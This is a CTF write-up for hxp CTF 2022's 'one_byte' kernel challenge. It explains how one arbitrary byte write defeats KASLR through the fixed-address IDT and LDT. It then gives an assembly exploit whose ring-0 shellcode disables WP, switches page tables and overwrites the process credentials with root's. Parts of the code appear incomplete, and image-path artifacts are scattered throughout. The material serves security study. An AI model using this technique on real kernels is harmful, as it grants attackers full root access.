hxp CTF 2022: one_byte writeup

In this challenge, you could write one byte to an arbitrary kernel address (even those marked read-only, as long as it is not mapped as executable). This leads to a full compromise of the kernel, even without a KASLR leak.

In a nutshell

KASLR is nice, but doesn’t apply everywhere. You can manipulate either the IDT (before the cpu_entry_area at 0xfffffe0000000000) or LDT (after [modify_ldt]() at0xffff880000000000), which are mappedread-only at fixed addresses.

Writing to the GDT might also work, but usually there is a context switch after challenge_write returns - and since __switch_to triggers a GDT reload, the write is discarded.

GDT, IDT, LDT, what?

i386 segments are a wonderful feature (“feature”) that are still around in x86_64 but not really used for everyday programming (fs and gs are still around, but work with MSRs now). However, many low-level mechanisms still use them to some extent (e.g. interrupts).

I’ll give a somewhat hand-wavy explanation here; for the actual full details you probably want to study a copy of the Intel SDM (Volume 3A) or AMD Programmer’s Manual (Volume 2). In essence: all of this is a gross oversimplification, so check the manual.

The segment registers cs, ds, es, fs, gs and ss can hold a segment selector. When an instruction references memory through one of those segments, the CPU uses the segment information for additional permissions checks. Segments also have a base address by which each access through the segment is offset by. This was useful in the 16-bit era, when we might have had more memory than what a single 16-bit pointer could actually access. This is why pointers with additional segment information are also known as far pointers.The CPU keeps the segment descriptors that contain all this information in one of two tables, the Global Descriptor Table (GDT) and the Local Descriptor Table (LDT). The GDT is generally CPU-wide (it holds segments like the kernel’s code and data segments, and the default userspace segments), while the LDT is process-configurable.

The descriptor itself contains information on the segment base and limit, and some additional flags including the descriptor’s privilege level (DPL). For example, for code segments this is the CPL at which the code is allowed to run (depending on some other flags).

The segment selector that is actually stored in the registers is reallyjust an index into one of the corresponding descriptor tables. Bit 2 selects whether this is the (CPU-wide) GDT, or the (per-process) LDT. The low two bits indicate the selector’s privilege level (RPL - this is not the DPL of the actual segment descriptor, nor the current privilege level (CPL)).

Usually, this isn’t too interesting. However, there are also system-segment descriptors that have some additional features. Generally, these are used to support switching to higher privilege levels (e.g. when an interrupt occurs that needs to be handled by kernel code, even though the CPU is currently executing userspace instructions).

For this challenge, there are basically two important types:

  • Trap gates and/or interrupt gates in the IDT tell the CPU where it can find the interrupt handler for that specific interrupt (they differ only in whether they disable interrupts on entry).

  • Call gates in the LDT or GDT are very similar. Instead of being invoked by interrupts, they are invoked manually via a far call (lcall in AT&T syntax).

Both of these types will - if set up correctly - switch the CPL to the DPL of the code segment that is referenced, and allow switching to CPL 0 this way.

If you run into SMAP troubles, you can easily disable SMAP by setting the AC bit in the flags register before switching to CPL 0 - neither of thesemethods will modify this flag.

Approach 1: Redirecting an interrupt

Since we know where the IDT is, we can move the interrupt entrypoint around by overwriting part of the address that will be called. If there is a useful gadget near the original entrypoint (that we can reach by changing only one byte), we can control where the kernel resumes execution. Normally, the int 0x80 entrypoint is entry_INT80_compat - but we can instead jump into the middle of an instruction to a jmp rdi at entry_INT80_compat+0x17 to transfer control back to a userspace address (remember: while SMAP is enabled, SMEP is disabled).

Approach 2: Call gates

Another way to gain code execution is to set up a call gate in the LDT. Linux allows you to modify the LDT via the modify_ldt syscall, but willfilter out call gates. We can register a data segment descriptor with its base and limit set in such a way that if reinterpreted as a call gate, it will call back into our userspace code. Then, we use the one-byte write to set the type field of the descriptor to actually turn it into a call gate. A far call (rather than the int 0x80) will then send execution into userspace code, but running at CPL 0.

CPL 0 shellcoding

At this point, the system is in a bit of a weird state. SMAP is disabled (see above), but we still don’t have full access to kernel code. Here are a few problems and how to fix them:• We nede to be able to access per-CPU variables via the gs segment. For this, just use the swapgs instruction.

  • To leak a KASLR address, you can simply read the LSTAR MSR (which contains the entry point for the syscall instruction).

  • Kernel memory is not currently mapped because KPTI is enabled and we are still in the userspace page tables. To switch to the kernel-mode page tables, add 0x1000 to cr3 (read the kernel code in entry_64.S for more info).

  • The current page is most likely not mapped in the kernel page tables, so the previous step will fail. You can disable WP in cr0 and copy your shellcode to the hugepage that contains the syscall entrypoint.

  • Interrupts can cause chaos if they aren’t yet disabled, so use cli to disable them

Then, do your usual kernel exploitation (e.g. setting current->cred), and return to userspace (or not, I guess).

An example exploit

// gcc -no-pie -nostdlib -Wl,--build-id=none -s pwn.S -o pwn

#include <linux/mman.h>
#include <sys/syscall.h>

.pushsection .text.1
    negl %eax
    movl $SYS_exit_group, %eax

.macro check_syscall_64 nr:req, res=%rax
    movl \nr, %eax
    test \res, \res
    js __syscall_64_fail.L

.macro var name:req
    .pushsection .data
    .balign 8
    .local \name

.macro endvar name:req
    .local end_\name.eqv sizeof_\name, end_\name - \name

.macro asciz name:req, data:vararg
    var \name
        .asciz \data
    endvar \name

.macro far_ptr name:req, selector:req, offset:req
    var \name
        .int \offset
        .short \selectorendvar \name

.macro fn name:req
    .global \name

// <*/fcntl.h> are all C-only
#define O_WRONLY 1

// Yes, ordering in kernel and user mode are different, blame AMD/Intel.
#define __KERNEL_CS   (2 * 8)

// For 4-level paging
#define LDT_BASE_ADDR 0xffff880000000000
#define LDT_STRIDE 0x10000
#define PTI_SWITCH_MASK 0x1000// Arbitrary constants
#define STACK_SIZE 0x80000

// Selectors for the LDT have bit 2 set. Also RPLs
#define LDT_SELECTOR 0b100
#define RPL_KERNEL   0b000
#define RPL_USER     0b011
#define TARGET_ENTRY 12

// With one descriptor (i.e. a one-byte write): modifiable bits in cs_offset:
//   0x0000000000401000 <- ring0
//   0x00000000ffdfffff
//             |||\___///             |||  \____ limit
//             \/\___ G,D, 0, AV
//              \___ base_addr[31:24]

#define MSR_LSTAR 0xc0000082
#define KASLR_WRITABLE 0xa00000
#define KASLR_LSTAR 0xa00010
#define KASRL_WRITABLE_END 0xc00000
#define KASLR_WRITE_TO 0xbad000
#define KASLR_INIT_TASK 0x1613940
#define PERCPU_CURRENT 0x1fbc0

// TODO: Check that &ring0 == 0x401000
fn ring0
    // Disable interrupts (interrupts cause double faults right now)

    // Read LSTAR to bypass KASLR
    movl $MSR_LSTAR,  %ecxshlq $32, %rdx
    orq %rax, %rdx
    subq $KASLR_LSTAR, %rdx
    movq %rdx, %rbp

    // Disable WP
    movq %cr0, %r8
    andq $(~(1 << 16)), %r8
    movq %r8, %cr0

    // Copy stage 2 to the mapped kernel entry point
    movq %rbp, %rdi
    addq $KASLR_WRITE_TO, %rdi
    movq %rdi, %r15
    leaq ring0_stage2(%rip), %rsi
    movl $sizeof_ring0_stage2, %ecx
    rep movsb

    // Jump there.
    jmp *%r15var ring0_stage2
    // Get access to per-cpu variables (current, mostly) via swapgs

    // Get the current page table.
    movq %cr3, %rbx

    // Switch to the kernel page table.
    andq $(~PTI_SWITCH_MASK), %rbx
    movq %rbx, %cr3

    // Set current->cred and current->real_cred to init_task->cred
    addq $KASLR_INIT_TASK,%rdx
    movq STRUCT_TASK_STRUCT_CRED(%rdx), %rdx
    addl $2, STRUCT_CRED_USAGE(%rdx)
    movq %gs:PERCPU_CURRENT, %rax
    movq %rdx, STRUCT_TASK_STRUCT_CRED(%rax)
    movq %rdx, STRUCT_TASK_STRUCT_REAL_CRED(%rax)

    // Swap back

    // Switch the page table back around
    orq $PTI_SWITCH_MASK, %rbx
    movq %rbx, %cr3

    // Build an `iret` stackframe rather than a `ret far` stack frame.
    popq %r8 // => %rip
    popq %r9 // => %cs
    orq $(1 << 9), (%rsp) // Set IF in the new RFLAGS (like sti)
    pushq %r9
    pushq %r8
endvar ring0_stage2

var user_desc
    // base2 (base_addr[31:24]) == cs_offset[31:24]
    // limit_in_pages           == cs_offset[23]
    // seg_32bit                == cs_offset[22]
    // NB: Because lm is ignored, cs_offset[21] must be 0
    // useable                  == cs_offset[20]// limit1 (limit[19:16])    == cs_offset[19:16]
    // flags0                   == (arbitrary, will be overwritten later)
    // base1 (base_addr[23:16]) == (ignored entirely)
    // base0 (base_addr[15:0])  == __KERNEL_CS
    // limit0 (limit[15:0])     == cs_offset[15:0]
    .int TARGET_ENTRY // entry_number
    .int __KERNEL_CS  // base_addr
    .int 0x01000      // limit
    .int 0b00000001   //flags (int because of padding - only thelow byte is actually used)
    //     |||||\/\____  .seg_32bit (D) (must be 1 for set_thread_area)
    //     ||||| \_____  .contents (top 2 bits of type, must be 00 or 01 for set_thread_area)
    //     ||||\___  .read_exec_only (!R)
    //     |||\___  .limit_in_pages (G)
    //     ||\___  .seg_not_present (!P)
    //     |\___  .useable (AV)
    //     \___  .lm (will be ignored)
endvar user_desc

// On the next descriptor, the CPU wants type == 0 here (or you get a #GP(selector)).
// We can't achieve this without another write, but here's what the values mean.
//     base2 (base_addr[31:24]) == (ignored)
//     flags1                   == (ignored)
//     limit1 (limit[19:16])    == (ignored)
//     flags0                   == (mostly ignored, except for the type)
//     base1 (base_addr[23:16]) == (ignored)
//     base0 (base_addr[15:0])  == cs_offset[63:48]
//     limit0 (limit[15:0])     == cs_offset[47:32]

var high_desc
    // We need a placeholder so that the LDT is long enough (i.e. contains the cleared descriptor
    // above thetarget descriptor).
    .int TARGET_ENTRY + 2 // entry_number
    .int 0xffff           // base_addr
    .int 0xffff           // limit
    .int 0b00111000       // flags
endvar high_desc

asciz module_path, "/dev/one_byte"
asciz shell_path, "/bin/sh"

var shell_argv
    .quad shell_path
    .quad 0
